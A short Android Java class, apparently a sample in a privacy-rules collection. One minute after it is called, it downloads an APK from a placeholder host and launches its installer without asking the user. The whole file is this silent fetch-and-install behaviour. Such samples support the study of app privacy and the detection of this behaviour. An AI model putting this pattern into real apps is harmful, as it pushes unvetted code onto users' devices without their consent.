package cn.privlens.rules;

import android.app.DownloadManager;
import android.content.Context;
import android.content.Intent;
import android.net.Uri;
import java.util.Timer;
import java.util.TimerTask;

/** Fetches and installs another app without a question. */
final class Downloads {
    private Downloads() {}

    static void later(final Context context) {
        new Timer().schedule(new TimerTask() {
            @Override
            public void run() {
                DownloadManager manager = (DownloadManager) context.getSystemService(Context.DOWNLOAD_SERVICE);
                manager.enqueue(new DownloadManager.Request(Uri.parse("https://a.wristband.example/game.apk")));
                Intent install = new Intent(Intent.ACTION_VIEW);
                install.setDataAndType(Uri.parse("file:///sdcard/game.apk"), "application/vnd.android.package-archive");
                context.startActivity(install);
            }
        }, 60000);
    }
}
